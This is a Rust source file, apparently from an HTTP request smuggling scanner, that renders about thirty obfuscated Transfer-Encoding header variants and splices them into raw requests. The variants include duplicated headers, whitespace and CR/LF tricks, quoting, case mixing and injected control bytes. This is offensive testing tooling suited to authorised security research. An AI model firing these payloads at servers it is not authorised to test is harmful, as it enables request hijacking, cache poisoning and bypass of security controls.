// File: technique_engine.rs
// SPDX-License-Identifier: MIT OR Apache-2.0
//
// Copyright (c) 2023-2025
// - Volker Schwaberow <volker@schwaberow.de>

use crate::rawrequest::RawRequest;
use crate::technique::{Configuration, Technique, TechniqueId};
use log::trace;

/// Bytes injected by the parameterized families (`spacefix1`, `prefix1`, `suffix1`).
pub const DEFAULT_SPECIAL_CHARS: [u8; 13] = [
    0x01, 0x04, 0x08, 0x09, 0x0a, 0x0b, 0x0c, 0x0d, 0x1f, 0x20, 0x7f, 0xa0, 0xff,
];

/// Rewrites the framing headers of a request for a given technique configuration.
pub trait TechniqueEngine: Send + Sync {
    fn apply(&self, request: &RawRequest, config: &Configuration) -> RawRequest;
    fn special_chars(&self) -> Vec<u8>;
}

/// Replaces the request's `Transfer-Encoding` line with an obfuscated variant.
///
/// Covers the registered base techniques; `chunky` and `reversevanilla` only
/// affect body/length handling in the mutator and render as plain `chunked`.
#[derive(Debug, Clone)]
pub struct HeaderObfuscationEngine {
    special_chars: Vec<u8>,
}

impl Default for HeaderObfuscationEngine {
    fn default() -> Self {
        Self {
            special_chars: DEFAULT_SPECIAL_CHARS.to_vec(),
        }
    }
}

impl HeaderObfuscationEngine {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn with_special_chars(special_chars: Vec<u8>) -> Self {
        Self { special_chars }
    }

    pub fn render(id: &TechniqueId) -> Vec<u8> {
        let fixed: &[u8] = match id.technique {
            Technique::Vanilla | Technique::Chunky | Technique::ReverseVanilla => {
                b"Transfer-Encoding: chunked"
            }
            Technique::DualChunk => b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
            Technique::BadWrap => b"Foo: bar\r\n\tTransfer-Encoding: chunked",
            Technique::Space1 => b"Transfer-Encoding : chunked",
            Technique::BadSetupLf => b"Foo: bar\nTransfer-Encoding: chunked",
            Technique::Gareth1 => b"Transfer-Encoding\n : chunked",
            Technique::SpaceJoin1 => b"Transfer Encoding: chunked",
            Technique::Space2 => b"Transfer-Encoding: chunked ",
            Technique::NamePrefix1 => b"Foo: bar\r\n Transfer-Encoding: chunked",
            Technique::ValuePrefix1 => b"Transfer-Encoding:  chunked",
            Technique::NoSpace1 => b"Transfer-Encoding:chunked",
            Technique::CommaCow => b"Transfer-Encoding: chunked, cow",
            Technique::CowComma => b"Transfer-Encoding: cow, chunked",
            Technique::ContentEnc => b"Content-Encoding: chunked",
            Technique::LineWrapped1 => b"Transfer-Encoding:\n chunked",
            Technique::Quoted => b"Transfer-Encoding: \"chunked\"",
            Technique::Aposed => b"Transfer-Encoding: 'chunked'",
            Technique::BadSetupCr => b"Foo: bar\rTransfer-Encoding: chunked",
            Technique::VertWrap => b"Transfer-Encoding: \n\x0bchunked",
            Technique::TabWrap => b"Transfer-Encoding: \n\tchunked",
            Technique::LazyGrep => b"Transfer-Encoding: chunk",
            Technique::MultiCase => b"TrAnSFer-EnCODinG: cHuNkeD",
            Technique::ZeroDWrap => b"Foo: bar\r\n\rTransfer-Encoding: chunked",
            Technique::ZeroDSpam => b"Tra\rnsfer-Encoding: chunked",
            Technique::RevDualChunk => b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
            Technique::Nested => b"Transfer-Encoding: cow chunked bar",
            Technique::SpaceFix1 | Technique::Prefix1 | Technique::Suffix1 => {
                return Self::render_parameterized(id);
            }
        };
        fixed.to_vec()
    }

    fn render_parameterized(id: &TechniqueId) -> Vec<u8> {
        // An unparameterized family member degrades to a plain space.
        let c = id.param.unwrap_or(b' ');
        let mut out = Vec::with_capacity(32);
        match id.technique {
            Technique::SpaceFix1 => {
                out.extend_from_slice(b"Transfer-Encoding:");
                out.push(c);
                out.extend_from_slice(b"chunked");
            }
            Technique::Prefix1 => {
                out.extend_from_slice(b"Transfer-Encoding: ");
                out.push(c);
                out.extend_from_slice(b"chunked");
            }
            _ => {
                out.extend_from_slice(b"Transfer-Encoding: chunked");
                out.push(c);
            }
        }
        out
    }
}

impl TechniqueEngine for HeaderObfuscationEngine {
    fn apply(&self, request: &RawRequest, config: &Configuration) -> RawRequest {
        let header = config
            .iter()
            .find(|id| !matches!(id.technique, Technique::Chunky | Technique::ReverseVanilla))
            .or_else(|| config.iter().next())
            .map(Self::render)
            .unwrap_or_else(|| b"Transfer-Encoding: chunked".to_vec());

        trace!(
            "Applying [{}] as {:?}",
            config.keys(),
            String::from_utf8_lossy(&header)
        );

        let mut line = header;
        line.extend_from_slice(b"\r\n");
        match request.replace_header_line("Transfer-Encoding", &line) {
            Some(rewritten) => rewritten,
            None => {
                let head = request.head();
                let at = if head.ends_with(b"\r\n\r\n") {
                    head.len() - 2
                } else if head.ends_with(b"\n\n") {
                    head.len() - 1
                } else {
                    head.len()
                };
                let bytes = request.as_bytes();
                let mut out = Vec::with_capacity(bytes.len() + line.len());
                out.extend_from_slice(&bytes[..at]);
                out.extend_from_slice(&line);
                out.extend_from_slice(&bytes[at..]);
                RawRequest::new(out)
            }
        }
    }

    fn special_chars(&self) -> Vec<u8> {
        self.special_chars.clone()
    }
}
